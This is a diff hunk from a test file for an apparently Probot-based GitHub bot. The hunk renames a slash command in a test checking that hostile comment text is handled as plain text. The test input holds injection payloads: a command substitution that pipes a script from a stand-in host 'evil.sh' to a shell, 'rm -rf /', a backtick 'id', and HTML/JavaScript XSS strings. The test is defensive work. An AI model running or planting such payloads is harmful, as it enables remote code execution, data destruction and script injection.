@@ -54,7 +54,7 @@ describe("hostile comments", () => {
 
   it("treats shell metacharacters and Markdown/HTML in references as text", async () => {
     const bodies = expectTriage();
-    await t.probot.receive({ id: "h-3", name: "issue_comment", payload: command("/triage $(curl${IFS}evil.sh|sh) ;rm -rf / `id` <img src=x onerror=alert(1)> [x](javascript:alert(1)) @org/admins") });
+    await t.probot.receive({ id: "h-3", name: "issue_comment", payload: command("/skewbot $(curl${IFS}evil.sh|sh) ;rm -rf / `id` <img src=x onerror=alert(1)> [x](javascript:alert(1)) @org/admins") });
     await t.settle();
     const body = bodies[0]!;
     const prose = body.replace(/(`+)[^`]*?\1/g, "");
